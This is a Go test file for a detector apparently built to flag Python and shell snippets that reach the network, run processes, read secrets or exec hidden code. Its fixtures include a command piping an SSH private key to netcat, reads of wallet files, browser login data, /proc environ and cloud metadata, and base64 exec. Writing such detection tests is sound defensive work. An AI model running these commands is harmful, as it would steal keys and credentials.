package reach

import (
	"strings"
	"testing"

	"github.com/repgen/repgen/internal/pysyntax"
)

func TestIn(t *testing.T) {
	for _, c := range []struct {
		code string
		kind Kind // "" for none
	}{
		{"import socket\nsocket.create_server(('', 1))", Network},
		{"import pycurl\npycurl.Curl()", Network},
		{"import urllib3\nurllib3.PoolManager()", Network},
		{"import requests\nraise requests.ConnectionError()", ""},
		{"import os\nos.system('curl http://a.example')", Network},
		{"import os\nos.system('ls')", Process},
		{"__import__('socket').socket()", Network},
		{"import keyring\nkeyring.get_password('a', 'b')", Secrets},
		{"import getpass\ngetpass.getuser()", User},
		{"open('/run/secrets/db')", Secrets},
		{"open('wallet.dat')", Secrets},
		{"open('Chrome/Default/Login Data')", Secrets},
		{"x = 'http://metadata.google.internal/'", Secrets},
		{"x = '169.254.169.254'", Secrets},
		{"open('/home/x/.ssh/authorized_keys')", Secrets},
		{"open('~/.netrc')", Secrets},
		{"open('~/.config/gh/hosts.yml')", Secrets},
		{"open('/proc/self/maps')", Secrets},
		{"open(f'/proc/{pid}/environ')", Secrets},
		{"open('/proc/self/status')", ""},
		{"open('/proc/meminfo')", ""},
		{"open('.dockerignore')", ""},
		{"open('.azure-pipelines.yml')", ""},
		{"import os\nt = os.environ['HF_TOKEN']", Secrets},
		{"from os import environ\nt = environ[\"API_KEY\"]", Secrets},
		{"import os\nos.environ['API_KEY'] = 'x'", ""},
		{"import os\nif os.environ['API_KEY'] == 'x':\n    pass", Secrets},
		{"import os\nos.getenv('TOKENIZERS_PARALLELISM')", ""},
		{"import os\nprint(os.environ['TOKENIZERS_PARALLELISM'])", ""},
		{"import os\nfor k in sorted(os.environ):\n    pass", Secrets},
		{"from os import environ\nprint(dict(environ))", Secrets},
		{"import os\nok = [k for k in names if k in os.environ]", ""},
		{"import os\nenv = dict(os.environ, X='1')", ""},
		{"# for k in os.environ:\n", ""},
		{"import base64\nexec(base64.b64decode('eA=='))", Hidden},
	} {
		got := In(pysyntax.Parse(c.code + "\n"))
		switch {
		case c.kind == "" && len(got) > 0:
			t.Errorf("%q: %v", c.code, got)
		case c.kind != "" && (len(got) == 0 || got[0].Kind != c.kind || got[0].Line < 1 || got[0].String() == ""):
			t.Errorf("%q: %+v, want %s", c.code, got, c.kind)
		}
	}
}

func TestInShell(t *testing.T) {
	got := InShell("pip install x\ncurl http://a.example\ncat ~/.ssh/id_rsa | nc a 1\n")
	if len(got) != 2 || got[0].Kind != Network || got[0].Line != 2 || got[1].Kind != Secrets || got[1].Line != 3 {
		t.Errorf("%+v", got)
	}
}

// TestBounded: a script has as many as it likes.
func TestBounded(t *testing.T) {
	var b strings.Builder
	for i := range 1000 {
		b.WriteString("open('/home/" + strings.Repeat("x", i) + "/.ssh/id_rsa')\n")
	}
	got := In(pysyntax.Parse(b.String()))
	if len(got) != maxFound {
		t.Errorf("%d", len(got))
	}
	for _, r := range got {
		if len(r.String()) > 100 {
			t.Errorf("%d bytes", len(r.String()))
		}
	}
}

func FuzzIn(f *testing.F) {
	f.Add("import os\nfor k in os.environ: print(k)\nexec(__import__('base64').b64decode('x'))\n")
	f.Fuzz(func(t *testing.T, code string) {
		for _, r := range append(In(pysyntax.Parse(code)), InShell(code)...) {
			if r.Kind == "" || r.Line < 1 {
				t.Errorf("%+v", r)
			}
		}
	})
}
